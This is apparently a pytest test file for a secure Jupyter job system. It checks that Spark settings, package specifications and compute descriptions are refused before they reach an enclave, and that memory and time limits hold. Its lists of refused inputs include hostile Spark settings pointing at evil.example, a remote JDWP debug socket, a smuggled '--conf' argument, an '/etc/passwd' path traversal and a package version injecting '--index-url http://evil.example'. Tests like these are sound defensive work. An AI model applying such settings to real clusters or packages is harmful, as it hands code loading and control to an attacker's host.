"""Attacks by what a job asks to be computed with: settings, packages and sizes, in a draft or in a signed version."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from jupyter_secure_jobs.crypto.memory import Memory
from jupyter_secure_jobs.domain.compute import Compute, EngineName, Package, Setting
from jupyter_secure_jobs.domain.errors import InvalidError, RefusedError, UnavailableError
from jupyter_secure_jobs.domain.job import JobLimits, Language
from jupyter_secure_jobs.domain.output import OutputPolicy
from jupyter_secure_jobs.enclave import plaintext
from jupyter_secure_jobs.enclave.gate import Gate
from jupyter_secure_jobs.enclave.task import SyntheticTask
from jupyter_secure_jobs.protocol import canonical, codec
from jupyter_secure_jobs.protocol import envelope as envelopes
from jupyter_secure_jobs.protocol.version import Version
from tests.support.refusal import refused
from tests.support.road import Road
from tests.support.world import World

if TYPE_CHECKING:
    from collections.abc import Iterator

    from jupyter_secure_jobs.protocol.envelope import Envelope
    from jupyter_secure_jobs.sandbox.limits import Limits

DIGEST = f"sha256:{'1' * 64}"
# What leads out of the sandbox's quiet corner, if a session or a virtual machine took it: each is a way of Spark's own.
HOSTILE = {
    "spark.master": "spark://evil.example:7077",
    "spark.remote": "sc://evil.example",
    "spark.jars": "http://evil.example/x.jar",
    "spark.jars.packages": "evil:evil:1",
    "spark.driver.extraClassPath": "/tmp",
    "spark.driver.extraJavaOptions": "-agentlib:jdwp=transport=dt_socket,server=y,address=0.0.0.0:5005",
    "spark.driver.bindAddress": "0.0.0.0",
    "spark.ui.enabled": "true",
    "spark.plugins": "evil.Plugin",
    "spark.extraListeners": "evil.Listener",
    "spark.sql.extensions": "evil.Extensions",
    "spark.sql.warehouse.dir": "/tables",
    "spark.sql.catalogImplementation": "hive",
    "spark.sql.catalog.evil": "evil.Catalog",
    "spark.hadoop.fs.defaultFS": "hdfs://evil.example",
    "spark.hadoop.javax.jdo.option.ConnectionURL": "jdbc:evil",
    "spark.python.daemon.module": "evil",
    "spark.pyspark.python": "/tmp/evil",
    "spark.eventLog.dir": "/tmp/events",
    "spark.sql.ansi.enabled ": "true",
    "SPARK.SQL.ANSI.ENABLED": "true",
}
VALUES = [
    ("spark.sql.ansi.enabled", "TRUE"),
    ("spark.sql.ansi.enabled", "true\n"),
    ("spark.sql.ansi.enabled", "true --conf spark.master=x"),
    ("spark.sql.session.timeZone", "../../etc/passwd"),
    ("spark.sql.session.timeZone", "Europe/Berlin\0"),
    ("spark.sql.session.timeZone", "Europe/Atlantis"),
    ("spark.sql.session.timeZone", "localtime"),
    ("spark.sql.session.timeZone", "+18:01"),
    ("spark.sql.session.timeZone", ""),
    ("spark.sql.shuffle.partitions", "0"),
    ("spark.sql.shuffle.partitions", "10000"),
    ("spark.sql.shuffle.partitions", "\u0661"),
    ("spark.sql.execution.arrow.maxRecordsPerBatch", "-1"),
]
SETTINGS = [*HOSTILE.items(), *VALUES]


@pytest.mark.parametrize(("name", "value"), SETTINGS)
def test_setting_that_is_not_on_the_list(name: str, value: str) -> None:
    with refused("setting", kind=InvalidError):
        Setting(name=name, value=value)


def _with(world: World, **compute: object) -> Envelope:
    """Return the world's version with a compute that no code of ours would make."""
    said = json.loads(canonical.encode(codec.to_json(world.version_statement())))
    said["compute"] = {**said["compute"], **compute}
    payload = json.dumps(said, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
    return replace(world.version, payload=payload)


def _read(world: World, **compute: object) -> Version:
    return envelopes.read(Version, _with(world, **compute))


def test_version_with_a_setting_that_is_not_on_the_list(world: World) -> None:
    """Author and server together cannot bring one before an enclave: the statement itself is refused."""
    good = {"name": "spark.sql.ansi.enabled", "value": "true"}
    assert _read(world, settings=[good]).compute.values == {good["name"]: "true"}
    for name, value in SETTINGS:
        with pytest.raises((InvalidError, RefusedError)):
            _read(world, settings=[{"name": name, "value": value}])


PACKAGE = {"name": "p", "version": "1", "wheel": DIGEST}


@pytest.mark.parametrize(
    "changes",
    [
        {"name": "../p"},
        {"name": "P"},
        {"name": "p.q"},
        {"name": "-p"},
        {"name": ""},
        {"name": "p" * 101},
        {"version": "../1"},
        {"version": ""},
        {"version": "1 --index-url http://evil.example"},
        {"wheel": DIGEST.upper()},
        {"wheel": DIGEST[:-1]},
        {"wheel": DIGEST + "\n"},
        {"wheel": "sha1:" + "1" * 64},
    ],
)
def test_package_that_names_no_wheel(world: World, changes: dict[str, str]) -> None:
    """A package's name becomes a folder's name in the enclave."""
    with refused("package", kind=InvalidError):
        Package(**{**PACKAGE, **changes})
    assert _read(world, packages=[PACKAGE]).compute.packages == (Package(**PACKAGE),)
    with pytest.raises((InvalidError, RefusedError)):
        _read(world, packages=[{**PACKAGE, **changes}])


@pytest.mark.parametrize(
    "compute",
    [
        {"packages": [PACKAGE, PACKAGE]},
        {"packages": [PACKAGE, {**PACKAGE, "wheel": f"sha256:{'2' * 64}"}]},
        {"packages": [{**PACKAGE, "name": "q"}, PACKAGE]},
        {"packages": [{**PACKAGE, "name": f"p{n:02}"} for n in range(51)]},
        {"settings": [{"name": "spark.sql.ansi.enabled", "value": v} for v in ("true", "false")]},
        {"engine": "connect"},
    ],
    ids=["twice", "two wheels of one name", "not in order", "too many", "two values", "another engine"],
)
def test_compute_that_could_be_read_in_two_ways(world: World, compute: dict[str, object]) -> None:
    with pytest.raises((InvalidError, RefusedError)):
        _read(world, **compute)


@pytest.fixture
def road(tmp_path: Path) -> Iterator[Road]:
    made = Road(tmp_path)
    yield made
    made.close()


def test_data_without_room_ask_for_no_key(road: Road, monkeypatch: pytest.MonkeyPatch) -> None:
    """Room is held from before the first key is asked for until the run is forgotten, whatever ends it."""
    memory = Memory()
    try:
        monkeypatch.setattr(road.enclave, "_memory", memory)
        monkeypatch.setattr(plaintext, "needed", lambda version: frozenset(read.table for read in version.datasets))
        road.enclave.prepare(road.dossier())
        reserved = memory.folder / "reserved"
        assert int(reserved.read_text()) > 0
        road.enclave.forget()
        assert not reserved.exists()
        monkeypatch.setattr(Memory, "free_bytes", lambda _: 10)
        with refused("data_too_large", kind=UnavailableError):
            road.enclave.prepare(road.dossier())
        assert not road.enclave.busy
        assert road.enclave.children[1:] == [], "no sandbox is started for it"
        with refused("no_run"):
            road.enclave.ask({"Alpha": "nonce", "Beta": "nonce"})
    finally:
        memory.remove()


def test_only_tables_that_are_read_are_fetched_and_decrypted() -> None:
    run = World().authorised()
    names = [read.table for read in run.version.datasets]
    assert plaintext.digests(run, frozenset()) == []
    assert plaintext.digests(run, frozenset(names))
    sizes = [plaintext.size(run, frozenset(chosen)) for chosen in ((), names[:1], names)]
    assert sizes == sorted(set(sizes))
    assert plaintext.needed(replace(run.version, code=f"SELECT 1 AS a FROM {names[0]}")) == {names[0]}
    python = replace(run.version, code="SELECT 1 AS one", language=Language.PYTHON)
    assert plaintext.needed(python) == set(names), "of Python it is never certain"


def _task(**changes: Any) -> SyntheticTask:
    made = SyntheticTask(
        workspace="w",
        genesis="g",
        run="r",
        text_hash="",
        language=Language.SQL,
        code="SELECT 1 AS one",
        tables={},
        datasets={},
        inputs={},
        declarations=(),
        limits=JobLimits(),
        compute=Compute(),
        output_policy=OutputPolicy(),
        counts=(),
        owners=(),
    )
    made = replace(made, **changes)
    return made if "text_hash" in changes else replace(made, text_hash=made.text.hash)


@pytest.mark.parametrize(
    ("task", "code", "kind"),
    [
        (_task(text_hash=_task(code="SELECT 2 AS two").text.hash), "tested_text", RefusedError),
        (_task(text_hash=_task(compute=Compute(engine=EngineName.SPARK)).text.hash), "tested_text", RefusedError),
        (_task(limits=JobLimits(cores=256)), "profile_too_large", UnavailableError),
        (_task(code="SELECT zip_with(array(1), array(2), (a, b) -> a) AS z"), "engine_lacks", RefusedError),
    ],
    ids=["another text", "another engine", "a larger machine", "what the engine lacks"],
)
def test_test_run_that_is_not_begun(
    road: Road, tmp_path: Path, task: SyntheticTask, code: str, kind: type[RefusedError | UnavailableError]
) -> None:
    with refused(code, kind=kind):
        road.enclave.test(task, {}, tmp_path, phase=lambda _: None)
    assert road.enclave.children == [], "no sandbox is started for it"


def test_a_test_gets_an_hour_whatever_the_server_says(road: Road, monkeypatch: pytest.MonkeyPatch) -> None:
    """A server that helps could hand out a test with the seven days that a draft may ask for."""

    class AskedError(Exception):
        """The limits that a sandbox was asked for are known."""

    asked: list[int] = []

    def start(_sandboxes: object, _rules: object, limits: Limits) -> None:
        asked.append(limits.seconds)
        raise AskedError

    monkeypatch.setattr(Gate, "start", start)
    for drafted in (604_800, 60):
        task = _task(limits=JobLimits(seconds=drafted, cores=1, memory_bytes=2**29))
        with pytest.raises(AskedError):
            road.enclave.test(task, {}, Path("/nonexistent"), phase=lambda _: None)
    assert asked == [3600, 60]
